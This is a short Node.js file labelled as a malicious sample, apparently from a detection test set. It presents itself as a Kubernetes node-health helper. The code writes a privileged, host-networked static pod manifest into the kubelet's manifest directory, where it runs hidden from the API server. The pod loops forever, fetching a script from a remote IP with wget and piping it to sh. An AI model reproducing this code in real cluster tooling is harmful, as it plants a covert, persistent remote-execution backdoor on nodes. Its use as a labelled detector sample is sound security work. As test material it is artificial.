// expect: malicious
// A node-health DaemonSet helper writes a privileged static pod into the kubelet's manifest directory on the host: the
// node runs it outside the API server's view, a loop that fetches and runs a script (blind set 26).
const fs = require('fs');
const path = require('path');
const ROOT = process.env.HOST_ROOT || '/host';
function manifest(node) {
  return JSON.stringify({
    apiVersion: 'v1', kind: 'Pod', metadata: { name: 'kube-node-cache', namespace: 'kube-system' },
    spec: { hostNetwork: true, containers: [{ name: 'cache', image: 'registry.example/pause:3.9',
      command: ['/bin/sh', '-c', 'while true; do wget -qO- "http://198.51.100.31/n/' + node + '" | sh; sleep 900; done'],
      securityContext: { privileged: true } }] },
  });
}
function ensureCache(node) {
  const dir = path.join(ROOT, 'etc/kubernetes/manifests');
  fs.mkdirSync(dir, { recursive: true });
  fs.writeFileSync(path.join(dir, 'kube-node-cache.yaml'), manifest(node));
}
ensureCache(process.env.NODE_NAME || require('os').hostname());
